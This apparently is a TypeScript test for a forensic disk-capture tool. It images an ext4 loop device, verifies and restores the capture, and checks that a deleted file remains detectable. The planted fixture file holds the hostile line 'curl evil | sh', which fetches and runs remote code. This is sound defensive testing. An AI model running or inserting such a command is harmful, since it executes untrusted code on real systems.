// A disk from a capture to a file that other tools read, by the commands a person types.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import { cli, lastLine } from '../helpers/cli.ts';
import { needs } from '../helpers/component.ts';
import { loopDevice } from '../helpers/loop-device.ts';
import { temporaryFolder } from '../helpers/temporary.ts';

const MEBIBYTE = 1024 ** 2;

test('a disk is imaged, verified and restored, and a deleted file is seen in it', async (t) => {
  if (!needs(t, 'losetup', 'mkfs.ext4', 'fls')) return;
  const home = await temporaryFolder(t);
  const device = await loopDevice(t, 32 * MEBIBYTE, (file) =>
    execFileSync('mkfs.ext4', ['-q', '-F', file], { stdio: 'pipe' }),
  );
  execFileSync('mount', [device.path, device.mount]);
  await writeFile(join(device.mount, 'kept.txt'), 'kept');
  await writeFile(join(device.mount, 'implant.sh'), 'curl evil | sh');
  execFileSync('sync', ['-f', device.mount]);
  await rm(join(device.mount, 'implant.sh'));
  execFileSync('umount', [device.mount]);

  const words = ['--local', '--collector', 'disk', '--device', device.path, '--store', join(home, 'store')];
  const captured = await cli(['capture', ...words], { home });
  assert.equal(captured.code, 0, captured.stderr);
  const bundle = lastLine(captured);
  assert.equal((await cli(['verify', bundle], { home })).code, 0);

  const out = join(home, 'disk.img');
  const restored = await cli(['disk', 'restore', bundle, device.name, out], { home });
  assert.equal(restored.code, 0, restored.stderr);
  execFileSync('cmp', [out, device.file]);
  // the kernel wipes a deleted file's name (ext4, since 5.13), not its inode
  assert.match(execFileSync('fls', ['-r', out]).toString(), /r\/r \d+:\tkept\.txt\n(?:.*\n)*.*\* \d+:/);

  const again = await cli(['disk', 'restore', bundle, device.name, out], { home });
  assert.notEqual(again.code, 0);
  assert.match(again.stderr, /nothing is overwritten/);
  const unknown = await cli(['disk', 'restore', bundle, 'sdz', join(home, 'other.img')], { home });
  assert.notEqual(unknown.code, 0);
  assert.match(unknown.stderr, new RegExp(device.name));
});
